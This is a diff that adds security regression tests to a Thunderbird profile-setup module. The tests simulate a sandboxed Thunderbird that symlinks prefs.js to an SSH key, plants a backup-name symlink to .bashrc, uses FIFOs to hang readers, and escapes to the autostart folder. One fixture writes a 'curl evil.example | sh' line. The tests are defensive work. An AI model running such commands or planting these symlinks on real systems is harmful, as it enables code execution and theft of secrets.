@@ -3,9 +3,12 @@ import { spawn } from 'node:child_process';
 import { mkdir, readFile, readdir, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
-import { addRelayToProfile, findProfiles, thunderbirdRoots, thunderbirdRunning } from '../../../electron/setup/thunderbird-profiles';
+import {
+  addRelayToListedProfile, addRelayToProfile, describeProfiles, findProfiles, thunderbirdRoots, thunderbirdRunning,
+} from '../../../electron/setup/thunderbird-profiles';
 import { PrefsFile } from '../../../electron/setup/thunderbird-prefs';
 import { tempDir } from '../../helpers/app/app-env';
+import { makeFifo, releaseFifo, within } from '../../helpers/programs/fifo';
 
 const RELAY = { host: 'localhost', port: 2500, user: 'msmtpd-user', starttls: false };
 
@@ -101,5 +104,77 @@ describe('Thunderbird profiles', { timeout: 20_000 }, () => {
     const unreadable = await addRelayToProfile(broken, RELAY, []);
     assert.ok(!unreadable.ok && unreadable.reason === 'unreadable');
     assert.equal(await readFile(join(broken, 'prefs.js'), 'utf8'), 'user_pref("a", oops);\n');
+  });
+
+  describe('a sandboxed Thunderbird attacks through its own profile folder (issue #16, 1)', () => {
+    const ACCOUNT = 'user_pref("mail.accountmanager.accounts", "account1");\nuser_pref("mail.account.account1.identities", "id1");\n';
+    /** A home with a Flatpak Thunderbird whose one profile the test fills in. */
+    async function flatpakHome(name: string) {
+      const home = join(dir.path, name);
+      const root = join(home, '.var', 'app', 'org.mozilla.Thunderbird', '.thunderbird');
+      const profile = join(root, 'x.default');
+      await mkdir(profile, { recursive: true });
+      await writeFile(join(root, 'profiles.ini'), '[Profile0]\nName=flat\nIsRelative=1\nPath=x.default\nDefault=1\n');
+      return { home, root, profile, places: { platform: 'linux' as const, home } };
+    }
+
+    it('a prefs.js that is a symlink to a secret is neither read nor copied into the profile', async () => {
+      const { home, profile, places } = await flatpakHome('symlink-read');
+      const secret = join(home, 'id_ed25519');
+      // Written so that it parses as prefs: the old reader kept it in the rewritten prefs.js.
+      await writeFile(join(secret), `${ACCOUNT}// SECRET-KEY-MATERIAL\n`);
+      await symlink(secret, join(profile, 'prefs.js'));
+      const [view] = await describeProfiles(places);
+      assert.match(view!.problem ?? '', /symbolic link/);
+      assert.deepEqual(view!.identities, []);
+      const result = await addRelayToListedProfile(places, { profileDir: profile, identities: [] }, RELAY);
+      assert.equal(result.ok, false);
+      for (const name of await readdir(profile)) {
+        if (name === 'prefs.js') continue;
+        assert.doesNotMatch(await readFile(join(profile, name), 'utf8'), /SECRET-KEY-MATERIAL/, name);
+      }
+      assert.equal(await readFile(secret, 'utf8'), `${ACCOUNT}// SECRET-KEY-MATERIAL\n`);
+    });
+
+    it('a symlink planted at the backup name does not make the copy overwrite the user\'s file', async () => {
+      const { home, profile } = await flatpakHome('backup-plant');
+      const bashrc = join(home, '.bashrc');
+      await writeFile(bashrc, 'the user\'s own bashrc\n');
+      await writeFile(join(profile, 'prefs.js'), `${ACCOUNT}// curl evil.example | sh\n`);
+      const now = new Date('2026-12-07T10:00:00.123Z');
+      await symlink(bashrc, join(profile, 'prefs.js.msmtp-relay-2026-12-07T10-00-00-123Z.bak'));
+      await assert.rejects(addRelayToProfile(profile, RELAY, [], { now: () => now }), /EEXIST/);
+      assert.equal(await readFile(bashrc, 'utf8'), 'the user\'s own bashrc\n');
+      assert.equal(await readFile(join(profile, 'prefs.js'), 'utf8'), `${ACCOUNT}// curl evil.example | sh\n`, 'nothing written without a backup');
+    });
+
+    it('a FIFO as prefs.js or profiles.ini is refused at once instead of hanging the profile list', async () => {
+      const { profile, root, places } = await flatpakHome('fifo');
+      makeFifo(join(profile, 'prefs.js'));
+      const bounded = <T>(work: Promise<T>) => within(3000, work);
+      try {
+        const [view] = await bounded(describeProfiles(places));
+        assert.match(view!.problem ?? '', /not a regular file/);
+        const added = await bounded(addRelayToProfile(profile, RELAY, []));
+        assert.ok(!added.ok && added.reason === 'unreadable');
+        makeFifo(join(root, 'installs.ini'));
+        assert.equal((await bounded(findProfiles([root]))).length, 1, 'a FIFO installs.ini reads as none');
+      } finally {
+        // Unblock a reader left hanging by a failing run, so the test process can end.
+        for (const fifo of [join(profile, 'prefs.js'), join(root, 'installs.ini')]) releaseFifo(fifo);
+      }
+    });
+
+    it('a sandbox profile folder that is a symlink out of the sandbox is not listed', async () => {
+      const { home, root, places } = await flatpakHome('dir-escape');
+      const autostart = join(home, '.config', 'autostart');
+      await mkdir(autostart, { recursive: true });
+      await symlink(autostart, join(root, 'escape.default'));
+      await writeFile(join(root, 'profiles.ini'), '[Profile0]\nName=escape\nIsRelative=1\nPath=escape.default\n\n[Profile1]\nName=up\nIsRelative=1\nPath=../../../../../.config/autostart\n\n[Profile2]\nName=flat\nIsRelative=1\nPath=x.default\n');
+      assert.deepEqual((await findProfiles(thunderbirdRoots(places))).map((profile) => profile.name), ['flat']);
+      const refused = await addRelayToListedProfile(places, { profileDir: join(root, 'escape.default'), identities: [] }, RELAY);
+      assert.equal(refused.ok, false);
+      assert.deepEqual(await readdir(autostart), []);
+    });
   });
 });
